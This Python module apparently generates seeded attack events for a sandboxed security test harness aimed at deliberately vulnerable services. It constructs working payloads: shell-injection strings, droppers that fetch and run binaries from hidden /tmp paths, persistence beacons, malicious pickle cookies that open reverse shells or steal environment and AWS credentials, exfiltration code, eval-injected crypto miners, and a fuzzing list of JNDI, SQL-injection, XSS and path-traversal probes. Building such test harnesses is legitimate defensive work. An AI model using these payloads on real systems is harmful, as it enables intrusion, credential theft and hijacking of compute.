"""Seeded attack events. Each generator returns (event, variant, expect): the malicious event for
the class's vulnerable function, the variant's name, and what the host services or the
sandbox report must show once it ran (checked by the self-test)."""

import base64
import hashlib
import pickle

from . import payloads as p
from .hosts import STAGE_BINARIES
from .workloads import api_event, lognormal

GUEST = "{'user': 'guest', 'cart': []}"


class _Gadget:
    """Pickles to `func(*args)`: what a crafted session cookie carries."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _cookie_event(rng, gadget):
    cookie = base64.b64encode(pickle.dumps(gadget, protocol=4)).decode()
    return api_event(rng, "GET", "/cart", headers={"Cookie": f"lang=en; session={cookie}"})


def _eval_then_guest(expression):
    """A cookie that runs `expression` and still yields a valid session (a quiet attack)."""
    return _Gadget(eval, f"[{expression}, {GUEST}][1]")


def _exec_then_guest(code):
    return _eval_then_guest(f"exec({code!r}, {{}})")


def _system(command):
    return _Gadget(__import__("os").system, command)


# --- doc-convert: shell injection through `level` ----------------------------------------
def _doc_event(rng, injected):
    return {"bucket": "acme-uploads", "key": f"invoices/2024/inv-{rng.randint(1, 99999):05d}.pdf",
            "size": lognormal(rng, 16 * 1024, 0.8, 512, 256 * 1024), "level": injected}


BREAK = "6 -c /dev/null >/dev/null;"


def command_injection(rng, ports, scale):
    variant, line = rng.choice((
        ("recon", f"{BREAK} id; uname -a; head -3 /etc/os-release #"),
        ("subshell", "6 $(id >&2; ls -la /var/task >&2; hostname >&2)"),
        ("chained", f"{BREAK} id && ls /opt /var/task && ps -ef | head -20 #"),
        ("search", f"{BREAK} id; find / -maxdepth 3 -name '*.pem' -o -maxdepth 3 -name '*.key' "
                   "2>/dev/null | head #"),
    ))
    return _doc_event(rng, line), variant, {"output_contains": "uid="}


def dropper(rng, ports, scale):
    """Fetches (or unpacks) an ELF into /tmp and runs it: either a quick `uname -a`, or a
    hashing tool fed tens of MB, whose digest proves it ran."""
    url = f"http://{p.HOST}:{ports['stage']}"
    choice = rng.choice(("curl-stage", "wget-stage", "inline-b64"))
    path = rng.choice(("/k", "/h"))
    megabytes = rng.randint(20, 80)
    if path == "/k":
        expect = "Linux"

        def run(binary):
            return f"{binary} -a"
    else:
        expect = hashlib.sha256(bytes(megabytes << 20)).hexdigest()

        def run(binary):
            return f"(head -c {megabytes}M /dev/zero | {binary})"
    if choice == "curl-stage":
        line = (f"{BREAK} curl -s -m 5 {url}{path} -o /tmp/.kworker && chmod +x /tmp/.kworker "
                f"&& {run('/tmp/.kworker')} #")
    elif choice == "wget-stage":
        line = (f"{BREAK} wget -q -T 5 -O /tmp/.cache-upd {url}{path} && chmod 755 /tmp/.cache-upd "
                f"&& {run('/tmp/.cache-upd')}; rm -f /tmp/.cache-upd #")
    else:
        with open(STAGE_BINARIES[path], "rb") as f:
            blob = p.b64(f.read())
        line = (f"{BREAK} echo {blob} | base64 -d > /tmp/x86_64 && chmod +x /tmp/x86_64 "
                f"&& {run('/tmp/x86_64')}; rm -f /tmp/x86_64 #")
    return _doc_event(rng, line), f"{choice}{path}", {"output_contains": expect}


def persistence(rng, ports, scale):
    port = ports["beacon"]
    choice = rng.choice(("beacon-loop", "tmp-script", "python-daemon"))
    if choice == "beacon-loop":
        line = f"{BREAK} setsid bash -c '{p.beacon_loop(port)}' </dev/null >/dev/null 2>&1 & #"
    elif choice == "tmp-script":
        script = p.b64("#!/bin/bash\n" + p.beacon_loop(port) + "\n")
        line = (f"{BREAK} mkdir -p /tmp/.ICE-unix && echo {script} | base64 -d > /tmp/.ICE-unix/.x "
                f"&& chmod +x /tmp/.ICE-unix/.x && (setsid /tmp/.ICE-unix/.x </dev/null >/dev/null 2>&1 &) #")
    else:
        script = p.b64(p.beacon_daemon(port))
        line = (f"{BREAK} mkdir -p /tmp/.X11-unix && echo {script} | base64 -d > /tmp/.X11-unix/.sd "
                f"&& python3 /tmp/.X11-unix/.sd </dev/null >/dev/null 2>&1 #")
    return _doc_event(rng, line), choice, {"beacon": True}


# --- session-api: code runs while the cookie is unpickled -----------------------------------
def reverse_shell(rng, ports, scale):
    port = ports["c2"]
    choice = rng.choice(("bash-devtcp", "python-dup2", "system-gadget"))
    if choice == "bash-devtcp":
        gadget = _eval_then_guest(f"__import__('os').system({p.reverse_shell_bash(port)!r})")
    elif choice == "python-dup2":
        gadget = _eval_then_guest(p.reverse_shell_python(port))
    else:
        gadget = _system(p.reverse_shell_bash(port))
    return _cookie_event(rng, gadget), choice, {"c2_contains": "uid="}


def credential_theft(rng, ports, scale):
    port = ports["loot"]
    choice = rng.choice(("environ-http", "proc-environ-socket", "curl-environ"))
    if choice == "environ-http":
        gadget = _exec_then_guest(p.steal_env_http(port))
    elif choice == "proc-environ-socket":
        gadget = _exec_then_guest(p.steal_proc_environ_socket(port))
    else:
        gadget = _eval_then_guest(f"__import__('os').system({p.steal_curl(port)!r})")
    return _cookie_event(rng, gadget), choice, {"loot_contains": "AWS_SECRET_ACCESS_KEY"}


def egress_exfiltration(rng, ports, scale):
    port = ports["exfil"]
    median, top = (3, 5) if scale == "small" else (8, 40)
    total = lognormal(rng, median * 2**20, 0.6, 2 * 2**20, top * 2**20)
    choice = rng.choice(("stream", "chunked", "staged-tmp"))
    if choice == "stream":
        code = p.exfil_stream(port, total)
    elif choice == "chunked":
        code = p.exfil_chunked(port, total, rng.choice((256, 512, 1024)) * 1024)
    else:
        code = p.exfil_staged(port, total)
    return _cookie_event(rng, _exec_then_guest(code)), choice, {"exfil_bytes": total}


# --- pricing-rules: the expression is eval'd ------------------------------------------------
def _rule_event(rng, expression, variables=None):
    return {"rule_id": rng.choice(("base-qty", "discount", "promo-2024")), "expression": expression,
            "vars": variables or {"base": round(rng.uniform(1, 500), 2), "qty": rng.randint(1, 9)},
            "currency": "EUR"}


def crypto_mining(rng, ports, scale):
    algorithm = rng.choice(("sha256d", "scrypt", "blake2b"))
    agent = rng.choice(("cpuminer/2.5.1", "xmrig/6.21.0", "python-miner/0.3"))
    worker = f"4{rng.getrandbits(64):016x}.w{rng.randint(1, 9)}"
    code = p.miner(ports["pool"], algorithm, round(rng.uniform(1.0, 2.0), 2), agent, worker)
    expression = f"exec({code!r}, {{}}) or base * qty"
    expect = {"pool_methods": ["mining.subscribe", "mining.authorize", "mining.submit"]}
    return _rule_event(rng, expression), algorithm, expect


def denial_of_wallet(rng, ports, scale):
    choice, expression, variables = rng.choice((
        ("generator-sum", "sum(i * i for i in range(10**11))", None),
        ("nested-loop", "sum(1 for a in range(10**6) for b in range(10**6)) * base", None),
        ("huge-qty", "base * max(1 - d / 1e12 for d in range(qty))", {"base": 9.99, "qty": 10**12}),
        ("sqrt-series", "base * sum(math.sqrt(n) for n in range(1, qty))", {"base": 1.0, "qty": 10**13}),
    ))
    return _rule_event(rng, expression, variables), choice, {"status": "timeout"}


PROBES = (
    {"expression": "base *"}, {"expression": "base * qty * (1 - discount"},
    {"expression": "{{7*7}}"}, {"expression": "${jndi:ldap://" + p.HOST + "/a}"},
    {"expression": "' OR '1'='1' --"}, {"expression": "__import__"},
    {"expression": "<script>alert(1)</script>"}, {"expression": "../../../../etc/passwd"},
    {"expression": "%s%s%s%s%n"}, {"expression": "(" * 300 + "1" + ")" * 300},
    {"expression": "A" * 4096}, {"expression": "base / 0"}, {"expression": 1337},
    {"expression": ["base"]}, {"vars": "AAAA"}, {"rule_id": "x"},
    {"expression": "undefined_name * 2"}, {"expression": "base.__class__.__mro__[1].__subclasses__()"},
)


def probing(rng, ports, scale):
    probe = dict(rng.choice(PROBES))
    probe.setdefault("rule_id", f"r{rng.randint(1, 99)}")
    if "expression" in probe:
        probe.setdefault("vars", {"base": rng.randint(1, 100)})
    return probe, "fuzz", {"status": "error"}


# --- customer-export: no cap on limit -------------------------------------------------------
def response_exfiltration(rng, ports, scale):
    choice = rng.choice(("all-fields", "all-fields-offset", "public-fields-bulk"))
    if choice == "public-fields-bulk":
        query = {"segment": rng.choice(("emea", "amer")), "limit": str(rng.randint(16000, 24000)),
                 "fields": "id,name,email,country,tier"}
    else:
        query = {"segment": rng.choice(("emea", "amer", "apac", "enterprise")),
                 "limit": str(rng.randint(6000, 11000)), "fields": "*",
                 "offset": str(0 if choice == "all-fields" else rng.randint(1, 50) * 1000)}
    return api_event(rng, "GET", "/customers/export", query=query), choice, {"min_response_bytes": 1_000_000}


GENERATORS = {
    "command_injection": command_injection, "reverse_shell": reverse_shell,
    "crypto_mining": crypto_mining, "egress_exfiltration": egress_exfiltration,
    "response_exfiltration": response_exfiltration, "credential_theft": credential_theft,
    "dropper": dropper, "persistence": persistence, "denial_of_wallet": denial_of_wallet,
    "probing": probing,
}
